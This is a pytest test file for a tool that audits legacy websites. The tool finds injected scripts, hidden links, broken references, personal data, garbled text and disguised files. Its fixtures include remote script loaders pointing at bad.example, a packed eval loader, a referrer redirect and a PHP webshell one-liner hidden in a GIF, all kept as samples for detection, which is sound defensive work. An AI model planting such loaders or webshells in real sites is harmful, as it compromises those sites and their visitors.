"""The report names what is wrong with an old site: where it stands, and what it is."""

from __future__ import annotations

from collections import Counter
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from migrations.legacy.findings.dates import longest_order
from migrations.legacy.findings.finding import KINDS, Finding
from migrations.legacy.findings.inspection import inspect
from migrations.legacy.findings.privacy import is_identity_number
from migrations.legacy.findings.scripts import judge_code
from migrations.legacy.findings.texts import mojibake
from migrations.legacy.reading.hiding import why_declared
from migrations.legacy.reading.reader import read_site
from migrations.legacy.reading.sites import Site
from migrations.legacy.sources.mirror import Mirror
from parts.old_site import INJECTED

TODAY = datetime(2026, 11, 1, tzinfo=UTC)


def of(findings: list[Finding], code: str) -> list[Finding]:
    return [one for one in findings if one.code == code]


def found_in(site: Site) -> list[Finding]:
    return inspect(site, TODAY)


def test_an_injected_script_is_named_with_its_copy(old_site: Site) -> None:
    findings = found_in(old_site)

    assert [(f.address, f.target) for f in of(findings, "injected_script")] == [
        ("/index.asp", INJECTED)
    ]
    assert [f.target for f in of(findings, "injected_script_copy")] == ["/js/kb.js"]


def test_hidden_links_are_named_with_how_they_hide(old_site: Site) -> None:
    hidden = of(found_in(old_site), "hidden_links")

    assert {f.address: f.facts["why"] for f in hidden} == {
        "/index.asp": "off_screen",
        "/show.asp?id=4": "display",
    }
    assert len(hidden[0].facts["links"]) == 5


def test_broken_references_are_named_with_their_page(old_site: Site) -> None:
    findings = found_in(old_site)

    assert [(f.address, f.target) for f in of(findings, "broken_link")] == [
        ("/show.asp?id=2", "/show.asp?id=99")
    ]
    assert [(f.address, f.target) for f in of(findings, "missing_image")] == [
        ("/show.asp?id=5", "/uploadfile/2010/gone.jpg")
    ]
    assert [f.address for f in of(findings, "local_path")] == ["/show.asp?id=6"]


def test_a_telephone_number_changed_on_the_home_page_is_noticed(old_site: Site) -> None:
    (found,) = of(found_in(old_site), "contact_differs")

    assert "58632588" in found.evidence
    assert "5863258 " in found.evidence


def test_personal_data_is_named_and_never_repeated(old_site: Site) -> None:
    findings = found_in(old_site)
    told = str([one.as_json() for one in findings])

    assert [f.address for f in of(findings, "id_number")] == ["/show.asp?id=4"]
    assert [f.address for f in of(findings, "mobile_number")] == ["/show.asp?id=1"]
    assert "11010519491231002X" not in told
    assert "13800138000" not in told


def test_only_numbers_that_check_are_identity_numbers() -> None:
    assert is_identity_number("11010519491231002X")
    assert not is_identity_number("110105194912310021")


@pytest.mark.parametrize(
    "style",
    [
        "display:none",
        "DISPLAY : none !important",
        "position:absolute;left:-9999px",
        "text-indent:-1000em",
        "font-size:0px",
        "visibility:hidden",
        "height:0;overflow:hidden",
        "opacity:0",
    ],
)
def test_ways_of_hiding_are_known(style: str) -> None:
    assert why_declared(style) is not None


@pytest.mark.parametrize("style", ["display:block", "left:-5px", "height:10px;overflow:hidden", ""])
def test_what_is_shown_is_not_taken_for_hidden(style: str) -> None:
    assert why_declared(style) is None


@pytest.mark.parametrize(
    ("code", "script"),
    [
        ("injected_script", "document.write('<script src=\"//bad.example/a.js\"></script>')"),
        ("injected_script", "var s=document.createElement('script');s.src='https://bad.example/x'"),
        ("hostile_script", "if(/baidu/.test(document.referrer)){}"),
        ("hostile_script", "eval(function(p,a,c,k,e,d){return p}('0',1,1,''.split('|'),0,{}))"),
        ("third_party_script", "s.src='https://hm.baidu.com/hm.js?1'"),
    ],
)
def test_hostile_code_is_told_from_known_services(code: str, script: str) -> None:
    if "referrer" in script:
        script = "if(document.referrer.indexOf('baidu.com')>0){location.href='http://x.example'}"

    assert [one.code for one in judge_code(script, "/a.js", "www.qhz.gov.cn")] == [code]


def test_honest_code_is_left_alone() -> None:
    assert list(judge_code("$(function(){ $('.nav').hover(); })", "/a.js", "a.gov.cn")) == []


@pytest.mark.parametrize(
    "text", ["锟斤拷锟斤拷", "通知\ufffd\ufffd公告", "娓呮渤闀囦汉姘戞斂搴滃叧浜�"]
)
def test_garbled_text_is_noticed(text: str) -> None:
    assert mojibake(text)


def test_rare_but_right_text_is_not_called_garbled() -> None:
    assert mojibake("镇长朱镕江签发，喆、堃、犇等同志参加；会议强调坚持以人民为中心。") == ""


def test_the_days_that_go_on_are_told_from_those_that_go_back() -> None:
    days = [TODAY + timedelta(days=n) for n in (1, 2, -900, 3, 4)]

    assert longest_order(days) == [0, 1, 3, 4]


def test_every_finding_says_what_to_do() -> None:
    assert all(kind.name and kind.advice for kind in KINDS.values())


def test_a_program_in_a_pictures_clothes_is_named(old_folder: Path) -> None:
    (old_folder / "images/a.gif").write_bytes(b"GIF89a<?php eval($_POST['x']);?>")
    site = read_site(Mirror(old_folder), ZoneInfo("Asia/Shanghai"))

    assert [f.address for f in of(found_in(site), "hostile_file")] == ["/images/a.gif"]


@pytest.mark.sample("sites/gxpopss_cn")
def test_what_befell_the_first_real_site_is_named(sample_site: Site) -> None:
    findings = found_in(sample_site)
    targets = {(f.code, f.target) for f in findings}

    assert ("injected_script", "https://hnci.net.cn/js/kb.js") in targets
    assert ("injected_script_copy", "/js/kb.js") in targets
    (hidden,) = of(findings, "hidden_links")
    assert (hidden.address, hidden.facts["count"]) == ("/index.html", 39)
    broken = {f.target for f in findings if f.code in {"missing_script", "stale_reference"}}
    assert {
        f"/js/2016/{name}" for name in ("jquery-1.8.2.min.js", "slider.js", "index.js")
    } < broken
    assert sum("W020190513335323" in target for target in broken) == 3


@pytest.mark.sample("sites/gxpopss_cn")
def test_what_is_hidden_in_the_first_real_site_comes_to_light(sample_site: Site) -> None:
    findings = found_in(sample_site)
    counts = Counter(f.code for f in findings)

    # A text on the congress of 2017, filed under the year 2000 between two of 2017 and 2018.
    (forged,) = of(findings, "date_out_of_order")
    assert forged.address.endswith("ghb3a252800-174.html")
    # Telephone and fax of the home page have one digit more than those of all other pages.
    (contact,) = of(findings, "contact_differs")
    assert "0771-58643258" in contact.evidence
    # Attachments whose links were emptied, lists whose articles are gone, a misspelt column.
    assert counts["missing_file"] == 28
    assert sum(len(f.facts["lines"]) for f in of(findings, "listed_without_page")) == 220
    assert [f.target for f in of(findings, "name_differs")] == ["成果集翠"]
    assert counts["mobile_number"] == 4
    assert counts["meta_foreign"] == 1
